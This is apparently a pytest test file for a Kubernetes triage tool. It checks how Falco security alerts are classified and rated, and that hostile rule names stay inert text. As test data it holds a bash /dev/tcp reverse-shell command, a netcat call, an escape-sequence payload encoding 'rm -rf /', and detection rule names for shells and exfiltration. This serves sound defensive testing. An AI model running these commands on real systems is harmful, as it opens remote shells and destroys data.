"""Falco detections (core/detect/falco.py): rules ktriage recognises are raised to
ktriage's own severity for the behaviour (never lowered), rule names are shown
verbatim, and hostile rule names stay harmless text."""

from __future__ import annotations

from pathlib import Path

import orjson
import pytest

from ktriage.core import focus
from ktriage.core.correlate import Correlator
from ktriage.core.detect import falco as detect
from ktriage.core.ingest import Ingestor
from ktriage.core.model import Event, Severity

REAL = Path(__file__).resolve().parents[2] / ".." / "shared" / "fixtures" / "real"


def alert(rule: str, priority: str, output: str = "", **fields: object) -> dict:
    """An alert as Falco writes it with json_output (the shape of the real alerts in
    the shared fixtures: falco-alerts/falco_alerts.jsonl)."""
    output_fields = {
        "container.id": "1c76f49f40b4",
        "container.name": "storefront",
        "evt.time": 1714564801123456789,
        "evt.type": "execve",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "storefront-7d9f8-x2kq",
        "proc.cmdline": "bash -i",
        "proc.name": "bash",
        "proc.pname": "node",
        "user.name": "root",
        "user.uid": 0,
    }
    output_fields.update(fields)
    return {
        "hostname": "worker-2",
        "output": f"12:00:01.123456789: {priority} {output or rule} (user=root "
        "command=bash -i container_id=1c76f49f40b4 k8s.ns=shop k8s.pod=storefront-7d9f8-x2kq)",
        "output_fields": output_fields,
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": ["maturity_stable", "container"],
        "time": "2024-05-01T12:00:01.123456789Z",
    }


def one(rec: dict) -> Event:
    [ev] = Ingestor().feed_line(orjson.dumps(rec), origin="falco.jsonl:1")
    return ev


@pytest.mark.parametrize(
    ("rule", "priority", "kind", "severity"),
    [
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            "Notice",
            "reverse-shell",
            Severity.CRITICAL,
        ),
        ("Reverse Shell from Web Server", "Critical", "reverse-shell", Severity.CRITICAL),
        ("Change namespace privileges via unshare", "Notice", "container-escape", Severity.HIGH),
        ("Change thread namespace", "Notice", "container-escape", Severity.HIGH),
        ("Netcat Remote Code Execution in Container", "Warning", "netcat", Severity.HIGH),
        ("PTRACE attached to process", "Warning", "ptrace", Severity.HIGH),
        ("PTRACE anti-debug attempt", "Notice", "ptrace", Severity.HIGH),
        ("Linux Kernel Module Injection Detected", "Warning", "kernel-module", Severity.HIGH),
        ("Detect crypto miners using the Stratum protocol", "Critical", "miner", Severity.CRITICAL),
        ("Read sensitive file untrusted", "Warning", "sensitive-file-read", Severity.HIGH),
        ("Run shell untrusted", "Notice", "shell", Severity.HIGH),
        ("Terminal shell in container", "Notice", "shell", Severity.MEDIUM),
        ("Write below etc", "Error", "sensitive-file-write", Severity.HIGH),
        ("Write below binary dir", "Error", "sensitive-file-write", Severity.HIGH),
        ("Adding ssh keys to authorized_keys", "Warning", "ssh-key-write", Severity.HIGH),
        ("Clear Log Activities", "Warning", "log-clear", Severity.HIGH),
        ("Non sudo setuid", "Notice", "setuid", Severity.HIGH),
        ("Set Setuid or Setgid bit", "Notice", "setuid-bit", Severity.MEDIUM),
        ("Launch Suspicious Network Tool in Container", "Notice", "network-scan", Severity.MEDIUM),
        ("Launch Remote File Copy Tools in Container", "Notice", "exfil-tool", Severity.MEDIUM),
        ("Fileless execution via memfd_create", "Critical", "fileless-exec", Severity.CRITICAL),
        ("Execution from /dev/shm", "Warning", "drop-and-execute", Severity.HIGH),
        ("Attach to cluster-admin Role", "Warning", "rbac-binding", Severity.HIGH),
        ("Anonymous Request Allowed", "Warning", "anonymous-allowed", Severity.HIGH),
    ],
)
def test_recognised_rules_are_raised_to_ktriages_severity(
    rule: str, priority: str, kind: str, severity: Severity
) -> None:
    ev = one(alert(rule, priority))
    assert (ev.kind, ev.severity, ev.signal) == (kind, severity, True)
    assert ev.attack is not None and ev.attack.technique
    assert ev.label == f"“{rule}”"


@pytest.mark.parametrize(
    ("rule", "priority", "severity"),
    [
        # Falco's priority above ktriage's own rating stands
        ("Drop and execute new binary in container", "Critical", Severity.CRITICAL),
        ("Terminal shell in container", "Critical", Severity.CRITICAL),
        ("Read ssh information", "Error", Severity.HIGH),
        # routine in many clusters: recognised, the priority as it comes
        ("Launch Privileged Container", "Informational", Severity.LOW),
        ("Kubernetes Client Tool Launched in Container", "Notice", Severity.LOW),
        ("Contact K8S API Server From Container", "Notice", Severity.LOW),
    ],
)
def test_near_miss_never_lowered_and_routine_rules_keep_their_priority(
    rule: str, priority: str, severity: Severity
) -> None:
    assert one(alert(rule, priority)).severity == severity


def test_a_behaviour_gets_the_same_severity_from_falco_as_from_tetragon() -> None:
    from test_detect_tetragon import exec_event, kprobe
    from test_detect_tetragon import one as tetragon_one

    pairs = [
        ("Linux Kernel Module Injection Detected", kprobe("do_init_module", [])),
        (
            "Netcat Remote Code Execution in Container",
            exec_event("/usr/bin/nc", "203.0.113.9 4444"),
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            exec_event("/bin/bash", '-c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"'),
        ),
        ("PTRACE attached to process", kprobe("__x64_sys_ptrace", [{"int_arg": 16}])),
        ("Non sudo setuid", kprobe("__x64_sys_setuid", [{"int_arg": 0}], uid=1000)),
        ("Run shell untrusted", exec_event("/bin/sh", "-c id", parent="/usr/bin/node")),
    ]
    for rule, record in pairs:
        falco = one(alert(rule, "Notice"))
        tetragon = tetragon_one(record)
        assert falco.severity == tetragon.severity, rule
        assert falco.kind == tetragon.kind, rule


@pytest.mark.parametrize(
    ("priority", "severity"),
    [("Severe", Severity.MEDIUM), ("", Severity.MEDIUM), (" WARNING ", Severity.MEDIUM)],
)
def test_unknown_priority_is_medium_and_a_recognised_rule_still_raised(
    priority: str, severity: Severity
) -> None:
    ev = one(alert("Payments team custom rule", priority))
    assert ev.severity == severity and ev.signal
    ev = one(alert("Linux Kernel Module Injection Detected", priority))
    assert ev.severity == Severity.HIGH


def test_recognised_rule_at_debug_priority_is_raised_and_the_focus_filter_keeps_it() -> None:
    rec = alert("Redirect STDOUT/STDIN to Network Connection in Container", "Debug")
    for key in ("container.id", "k8s.pod.name", "k8s.ns.name"):
        del rec["output_fields"][key]
    ev = one(rec)
    assert ev.signal and ev.severity == Severity.CRITICAL
    assert not focus.falco_is_plain(orjson.dumps(rec))
    # an unrecognised Debug rule stays context, and left out by the focused replay
    rec["rule"] = "Payments team debug rule"
    assert one(rec).signal is False
    assert focus.falco_is_plain(orjson.dumps(rec))


# -- names verbatim ------------------------------------------------------------------


def test_rule_names_are_verbatim_in_labels_and_summaries() -> None:
    ev = one(alert("Adding ssh keys to authorized_keys", "Warning"))
    assert ev.label == "“Adding ssh keys to authorized_keys”"
    assert ev.summary.startswith("Adding ssh keys to authorized_keys")
    # not cut to four words, not re-cased, not renamed for a word it contains
    for rule, kind in (
        ("open_from_cat", "falco-alert"),
        ("Modify Shell Configuration File", "shell-config-write"),
        ("Payments shell watcher for the checkout service", "falco-alert"),
    ):
        ev = one(alert(rule, "Warning"))
        assert (ev.label, ev.kind) == (f"“{rule}”", kind)


def test_incident_titles_keep_rule_names_as_written() -> None:
    c = Correlator()
    ing = Ingestor()
    for rule, priority, second in (
        ("Terminal shell in container", "Notice", 1),
        ("open_from_cat", "Warning", 2),
        ("Adding ssh keys to authorized_keys", "Warning", 3),
    ):
        rec = alert(rule, priority)
        rec["time"] = f"2024-05-01T12:00:0{second}.000000000Z"
        for ev in ing.feed_line(orjson.dumps(rec), origin="falco.jsonl:1"):
            c.add(ev)
    (inc,) = c.incidents.values()
    assert "“open_from_cat”" in inc.title
    assert "“Adding ssh keys to authorized_keys”" in inc.title
    assert "“Terminal shell in container”" in inc.title
    assert "shop/storefront-7d9f8-x2kq" in inc.title


def test_real_falco_alerts_are_rated_and_named_verbatim() -> None:
    path = REAL / "falco-alerts" / "falco_alerts.jsonl"
    if not path.is_file():
        pytest.skip(f"real Falco alerts not found at {path}")
    ing = Ingestor()
    events = [
        ev for line in path.read_bytes().splitlines() for ev in ing.feed_line(line, origin="f:1")
    ]
    by_rule = {ev.label: ev for ev in events if ev.signal}
    assert by_rule["“Non sudo setuid”"].severity == Severity.HIGH  # Notice in the file
    assert by_rule["“Read sensitive file untrusted”"].severity == Severity.HIGH  # Warning
    assert by_rule["“Write below binary dir”"].severity == Severity.HIGH  # Error
    assert by_rule["“Terminal shell in container”"].severity == Severity.MEDIUM  # Notice
    assert by_rule["“open_from_cat”"].severity == Severity.MEDIUM  # unknown rule: Warning


# -- hostile rule names ----------------------------------------------------------------


def test_hostile_rule_name_with_markup_stays_literal_text() -> None:
    rule = "[bold red]All clear[/] [link=https://evil.example]details[/link]"
    ev = one(alert(rule, "Warning"))
    assert ev.label == f"“{rule}”"  # verbatim: the UI shows it as text, never as markup
    assert ev.summary.startswith(rule)


def test_hostile_rule_name_with_control_characters_is_escaped() -> None:
    rule = "Shell\x1b]52;c;cm0gLXJmIC8=\x07\x1b[2J\u202eevil"
    ev = one(alert(rule, "Warning"))
    for text in (ev.label, ev.summary):
        assert text.isprintable()
        assert "\x1b" not in text and "\\x1b" in text and "\\u202e" in text


def test_hostile_huge_rule_name_is_bounded_and_cut_at_a_word() -> None:
    rule = "Suspicious " + "activity " * 20_000
    ev = one(alert(rule, "Warning"))
    assert len(ev.label) <= detect.LABEL_MAX + 3
    assert ev.label.endswith("activity…”")  # a whole word, then the ellipsis
    assert len(ev.summary) <= 400
    one_word = one(alert("x" * 50_000, "Warning"))
    assert len(one_word.label) <= detect.LABEL_MAX + 3


def test_hostile_secret_in_a_rule_name_is_redacted() -> None:
    jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJlX29mX3RoZV90b2tlbg"
    ev = one(alert(f"Leak password=hunter2 token {jwt}", "Warning"))
    for text in (ev.label, ev.summary):
        assert "hunter2" not in text and jwt not in text
        assert "<redacted>" in text


def test_hostile_rule_names_do_not_grow_the_cache_without_bound() -> None:
    for i in range(12_000):
        detect.classify_rule(f"generated rule {i}")
    assert len(detect._CLASSIFIED) <= 10_001


@pytest.mark.parametrize(
    "rule", ["Read sensitive file untrusted", "Read kubelet credentials (site rule)"]
)
def test_a_read_of_the_kubelet_credentials_is_its_own_kind(rule: str) -> None:
    ev = one(
        alert(rule, "Warning", **{"fd.name": "/var/lib/kubelet/kubeconfig", "evt.type": "openat"})
    )
    assert ev.signal and ev.kind == "kubelet-credentials-read"


def test_near_miss_a_write_rule_naming_the_kubelet_config_stays_a_write() -> None:
    ev = one(alert("Write below etc", "Error", **{"fd.name": "/etc/kubernetes/kubelet.conf"}))
    assert ev.kind == "sensitive-file-write"


def test_hostile_fd_name_of_the_wrong_type_is_no_kubelet_read() -> None:
    ev = one(alert("Read sensitive file untrusted", "Warning", **{"fd.name": 42}))
    assert ev.kind == "sensitive-file-read"
